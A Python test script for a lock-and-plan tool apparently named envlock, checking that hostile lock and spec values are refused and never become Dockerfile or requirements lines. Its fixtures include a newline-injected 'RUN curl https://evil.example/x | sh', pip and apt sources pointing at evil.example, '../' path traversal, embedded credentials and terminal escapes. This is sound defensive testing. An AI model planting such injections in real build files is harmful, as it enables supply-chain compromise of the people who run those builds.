#!/usr/bin/env python3
"""plan_hostile.py ENVLOCK — plan and export from a hostile lock or spec
(issue 19): nothing a lock string or a spec value holds may become another
line, instruction or source of a generated file, and a plan touches only
what an earlier plan wrote.

The demo (corpus/demo/demo.yaml: PyPI, npm and apt) is resolved from the
committed mirror through file://; each case then edits the lock text (or
the spec, with the lock's specDigest set to the edited spec's digest) and
runs the real binary. What must happen is worked out from the formats'
own rules (Docker's line continuation: a backslash, then optional spaces
and tabs, at the end of a line; POSIX sh names; COPY's variable expansion;
RFC 3986 userinfo), never from envlock's output:
  - a mirror's `user:password@` appears in no file of the plan;
  - a newline in a base digest, a version or a deb source, `../` in an npm
    path and credentials in a lock URL make plan, export (and check, for
    the path) refuse the lock with DL_ENV_SPEC_INVALID and the line of the
    value, writing nothing;
  - a postInstall command ending in `\\ ` leaves the doctor its own
    instruction;
  - a secret named `my.token` mounted as env is refused at validate time;
  - a spec file path with `$` is refused by the Dockerfile variants;
  - a user's file named like a plan file survives a plan, a stale file of
    an earlier plan (listed with its bytes in the manifest) does not, and a
    symlinked variant directory is refused."""

import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
BASES = os.path.join(ROOT, "corpus", "demo", "bases.yaml")
MIRROR = os.path.join(ROOT, "corpus", "demo", "mirror")
DEMO = os.path.join(ROOT, "corpus", "demo", "demo.yaml")
APT = "https://snapshot.debian.org/archive/debian/20260914T150000Z"
DOCTOR = "RUN /opt/datalayer/bin/datalayer-sandbox doctor --json > /tmp/doctor.json"

sys.path.insert(0, HERE)
from plan_mirror import files_of, run  # noqa: E402  (the same runner and reader)

failures = []


def fail(msg):
    failures.append(msg)
    print("FAIL: " + msg)


def plan(el, spec, lock, out, extra=()):
    return run(el, list(extra) + ["plan", spec, lock, "--bases", BASES, "-o", out])


def line_of(text, needle):
    """1-based line of the first line containing needle."""
    for i, ln in enumerate(text.split("\n")):
        if needle in ln:
            return i + 1
    raise AssertionError("no line holds %r" % needle)


def edit(text, old, new):
    if old not in text:
        raise AssertionError("the demo lock has no %r" % old)
    return text.replace(old, new, 1)


def write(path, text):
    with open(path, "w", encoding="utf-8") as f:
        f.write(text)
    return path


def refused(tag, r, line, out=None):
    """Exit 10, DL_ENV_SPEC_INVALID naming `(line N)`, nothing written."""
    if r.returncode != 10 or "DL_ENV_SPEC_INVALID" not in r.stderr:
        fail("%s: exit %d, want 10 DL_ENV_SPEC_INVALID: %s" % (tag, r.returncode, r.stderr.strip()))
    elif line and "(line %d)" % line not in r.stderr:
        fail("%s: the refusal does not name line %d: %s" % (tag, line, r.stderr.strip()))
    if "\x1b" in r.stderr or "\r" in r.stderr:
        fail("%s: the refusal prints a control character raw: %r" % (tag, r.stderr))
    if out and os.path.exists(out) and files_of(out):
        fail("%s: a refused plan wrote %s" % (tag, sorted(files_of(out))))
    if r.stdout.strip() and not r.stdout.startswith("{"):
        fail("%s: a refused run wrote to stdout: %r" % (tag, r.stdout[:200]))


def lock_cases(el, work, lock_text):
    """A hostile lock: each string that lands in a file line by line."""
    digest_line = next(ln for ln in lock_text.split("\n") if ln.strip().startswith("datalayer: \"sha256:"))
    pypi_ver = re.search(r'- ecosystem: pypi\n  name: [^\n]+\n  version: ("[^"]+")', lock_text)
    deb_src = re.search(r'  source: ("%s/? [^"]+")' % re.escape(APT), lock_text)
    npm_path = re.search(r'  path: (node_modules/[a-z]+)\n', lock_text)
    pypi_src = '  source: "https://pypi.org/simple"'
    cases = {
        "base_digest": (digest_line, digest_line[:-1] + '\\nRUN curl https://evil.example/x | sh"',
                        digest_line),
        "pypi_version": (pypi_ver.group(0), pypi_ver.group(0)[:-1] +
                         '\\n-r https://evil.example/r.txt\\n--extra-index-url https://evil.example/"',
                         pypi_ver.start()),
        "deb_source": (deb_src.group(0), deb_src.group(0)[:-1] +
                       '\\ndeb [trusted=yes] http://evil.example/ x main"', deb_src.group(0)),
        "npm_path": (npm_path.group(0), "  path: node_modules/../x\n", None),
        "url_credentials": (pypi_src, '  source: "https://alice:s3cret@pypi.org/simple"', pypi_src),
        "escape_sequence": (pypi_ver.group(0), pypi_ver.group(0)[:-1] + '\\e[31m\\r"',
                            pypi_ver.start()),
    }
    for tag, (old, new, anchor) in cases.items():
        text = edit(lock_text, old, new)
        path = write(os.path.join(work, tag + ".lock"), text)
        line = (lock_text[:anchor].count("\n") + 1 if isinstance(anchor, int)
                else line_of(lock_text, anchor) if anchor else None)
        out = os.path.join(work, "plan-" + tag)
        refused(tag + ": plan", plan(el, DEMO, path, out), line, out)
        if tag in ("pypi_version", "url_credentials", "escape_sequence"):
            for fmt in ("requirements", "uv-pip-compile", "pylock"):
                refused("%s: export %s" % (tag, fmt), run(el, ["export", path, "--format", fmt]), line)
        if tag == "escape_sequence":  # a root's version, which check's report shows
            pandas = re.search(r'  name: pandas\n  version: "[^"]+', lock_text).group(0)
            path = write(os.path.join(work, "check-escape.lock"),
                         edit(lock_text, pandas, pandas + '\\e[31m\\r'))
            r = run(el, ["check", "--offline", "--bases", BASES, DEMO, path])
            shown = r.stdout + r.stderr
            if r.returncode != 1 or any(c in shown for c in "\x1b\r\x85"):
                fail("escape_sequence: check exits %d (want 1, stale) or prints a control "
                     "character raw: %r" % (r.returncode, shown[:300]))
            elif "\\x1b[31m\\x0d" not in shown:
                fail("escape_sequence: check does not show the version escaped: %r" % shown[:300])
        if tag == "npm_path":
            refused(tag + ": export package-lock",
                    run(el, ["export", path, "--format", "package-lock"]), None)
            r = run(el, ["check", "--offline", "--bases", BASES, DEMO, path])
            if r.returncode != 10 or "DL_ENV_SPEC_INVALID" not in r.stderr or ".path" not in r.stderr:
                fail("npm_path: check exits %d, want 10 naming the path: %s"
                     % (r.returncode, (r.stdout + r.stderr).strip()))


def mirror_case(el, work, lock):
    site = "https://alice:s3cret@mirror.example"
    out = os.path.join(work, "plan-mirror")
    r = plan(el, DEMO, lock, out, ["--mirror", "https://pypi.org=%s/pypi" % site,
                                  "--mirror", "https://registry.npmjs.org=%s/npm" % site,
                                  "--mirror", "%s=%s/apt" % (APT, site)])
    if r.returncode != 0:
        fail("mirror: plan exited %d: %s" % (r.returncode, r.stderr.strip()))
        return
    got = files_of(out)
    for name, text in sorted(got.items()):
        if "s3cret" in text or "alice" in text:
            fail("mirror: %s carries the mirror's credentials" % name)
    df = got.get("datalayer/Dockerfile", "")
    if "https://mirror.example/pypi/simple" not in df:
        fail("mirror: the Dockerfile does not install from the mirror without credentials")
    if "deb [check-valid-until=no] https://mirror.example/apt/ " not in got.get("datalayer/apt-sources.list", ""):
        fail("mirror: apt-sources.list does not name the mirror without credentials")


def spec_with(work, tag, lock_text, extra):
    """The demo spec with `extra` (lines under spec:), and the lock with its digest."""
    spec = write(os.path.join(work, tag + ".yaml"), open(DEMO, encoding="utf-8").read() + extra)
    return spec, lock_text


def respec(el, work, tag, lock_text, extra):
    spec, _ = spec_with(work, tag, lock_text, extra)
    r = run(el, ["digest", spec])
    digest = r.stdout.strip().split()[0] if r.returncode == 0 and r.stdout.strip() else None
    text = re.sub(r'specDigest: "sha256:[0-9a-f]+"', 'specDigest: "%s"' % digest, lock_text) if digest else lock_text
    return spec, write(os.path.join(work, tag + ".lock"), text), r


def instructions(dockerfile):
    """Docker's reading: comment lines dropped, a line ending in a backslash
    and optional blanks joined with the next."""
    out, cur = [], None
    for ln in dockerfile.split("\n"):
        if cur is None and (not ln.strip() or ln.lstrip().startswith("#")):
            continue
        if cur is not None and ln.lstrip().startswith("#"):
            continue
        m = re.search(r"\\[ \t]*$", ln)
        piece = ln[:m.start()] if m else ln
        cur = piece if cur is None else cur + piece
        if not m:
            out.append(cur)
            cur = None
    if cur is not None:
        out.append(cur)
    return out


def continuation_case(el, work, lock_text):
    spec, lock, _ = respec(el, work, "continuation", lock_text,
                           "  commands:\n    postInstall:\n      - \"echo one \\\\ \"\n"
                           "      - \"echo two \\\\  \"\n")
    out = os.path.join(work, "plan-continuation")
    r = plan(el, spec, lock, out, ["--variant", "all"] if False else [])
    if r.returncode != 0:
        fail("continuation: plan exited %d: %s" % (r.returncode, r.stderr.strip()))
        return
    for name, text in sorted(files_of(out).items()):
        if not name.endswith("Dockerfile"):
            continue
        ins = instructions(text)
        if ins[-1] != DOCTOR:
            fail("continuation: %s's last instruction is %r, not the doctor" % (name, ins[-1][:160]))
        runs = [i for i in ins if i.startswith("RUN") and "echo" in i]
        if len(runs) != 2:
            fail("continuation: %s has %d echo instructions, want 2: %r" % (name, len(runs), runs))


def secret_case(el, work, lock_text):
    """`my.token` (valid per the spec's name rule) mounted as env: the
    command's shell must accept the export (dash runs it here)."""
    spec, lock, _ = respec(el, work, "secret", lock_text,
                           "  buildSecrets:\n    - {id: dlsec_abc, name: my.token}\n"
                           "  commands:\n    postInstall:\n      - \"test -n \\\"$my_token\\\" && echo my.token\"\n")
    out = os.path.join(work, "plan-secret")
    r = plan(el, spec, lock, out)
    if r.returncode != 0:
        fail("secret: plan exited %d: %s" % (r.returncode, r.stderr.strip()))
        return
    df = files_of(out).get("datalayer/Dockerfile", "")
    runs = [l for l in df.split("\n") if "type=secret" in l]
    if len(runs) != 1:
        fail("secret: %d RUN lines mount the secret, want 1" % len(runs))
        return
    body = re.sub(r"^RUN( --[^ ]+)* ", "", runs[0])
    secret = os.path.join(work, "secret-value")
    write(secret, "s3cret")
    body = body.replace("/run/secrets/dlsec_abc", secret)
    r = subprocess.run(["dash", "-c", body], capture_output=True, text=True)
    if r.returncode != 0 or r.stdout != "my.token\n":
        fail("secret: dash runs %r: exit %d, %r %r" % (body, r.returncode, r.stdout, r.stderr))


def copy_path_case(el, work, lock_text):
    spec, lock, _ = respec(el, work, "copy", lock_text,
                           "  files:\n    - path: /home/datalayer/content/$HOME/notes.txt\n"
                           "      contentRef: blob://notes\n")
    out = os.path.join(work, "plan-copy")
    r = plan(el, spec, lock, out)
    if r.returncode == 0:
        df = files_of(out).get("datalayer/Dockerfile", "")
        fail("copy: a `$` path is planned: %s" % [l for l in df.split("\n") if "COPY" in l and "files/0" in l])
    elif "spec.files[0]" not in r.stderr:
        fail("copy: the refusal does not name spec.files[0]: %s" % r.stderr.strip())


def user_files_case(el, work, lock):
    out = os.path.join(work, "plan-user")
    os.makedirs(os.path.join(out, "datalayer"))
    mine = {"modal_image.py": "# my own module\n", "apt-notes.txt": "mine\n"}
    for n, t in mine.items():
        write(os.path.join(out, "datalayer", n), t)
    r = plan(el, DEMO, lock, out)
    if r.returncode != 0:
        fail("user files: plan exited %d: %s" % (r.returncode, r.stderr.strip()))
        return
    for n, t in mine.items():
        p = os.path.join(out, "datalayer", n)
        if not os.path.exists(p) or open(p).read() != t:
            fail("user files: the plan removed or changed the user's %s" % n)
    # an earlier plan's stale file, listed with its bytes, goes
    manifest = os.path.join(out, "datalayer", ".envlock-plan")
    if not os.path.exists(manifest):
        fail("user files: the plan wrote no manifest")
        return
    stale = "# an earlier plan's module\n"
    write(os.path.join(out, "datalayer", "modal_image.py"), stale)
    with open(manifest, "a") as f:
        f.write("%s  modal_image.py\n" % hashlib.sha256(stale.encode()).hexdigest())
    r = plan(el, DEMO, lock, out)
    if os.path.exists(os.path.join(out, "datalayer", "modal_image.py")):
        fail("user files: a stale plan file the manifest lists was kept")
    # a symlinked variant directory into another project
    other = os.path.join(work, "other-project")
    os.makedirs(other)
    write(os.path.join(other, "package.json"), '{"name": "other"}\n')
    out2 = os.path.join(work, "plan-link")
    os.makedirs(out2)
    os.symlink(other, os.path.join(out2, "datalayer"))
    r = plan(el, DEMO, lock, out2)
    if r.returncode == 0:
        fail("user files: a symlinked variant directory was planned into")
    if sorted(os.listdir(other)) != ["package.json"] or open(os.path.join(other, "package.json")).read() != '{"name": "other"}\n':
        fail("user files: the other project now holds %s" % sorted(os.listdir(other)))


def main():
    el = sys.argv[1]
    work = tempfile.mkdtemp(prefix="envlock-plan-hostile-")
    try:
        lock = os.path.join(work, "demo.lock")
        r = run(el, ["--cache-dir", os.path.join(work, "cache"),
                     "--mirror", "https://pypi.org=file://%s/pypi/pypi" % MIRROR,
                     "--mirror", "https://registry.npmjs.org=file://%s/npm" % MIRROR,
                     "--mirror", "%s=file://%s/apt" % (APT, MIRROR),
                     "resolve", DEMO, "--bases", BASES, "-o", lock])
        if r.returncode != 0:
            fail("resolve exited %d: %s" % (r.returncode, r.stderr.strip()))
            return 1
        text = open(lock, encoding="utf-8").read()
        for case in (lambda: lock_cases(el, work, text), lambda: mirror_case(el, work, lock),
                     lambda: continuation_case(el, work, text), lambda: secret_case(el, work, text),
                     lambda: copy_path_case(el, work, text), lambda: user_files_case(el, work, lock)):
            case()
    finally:
        shutil.rmtree(work, ignore_errors=True)
    print("%d failure(s)" % len(failures))
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
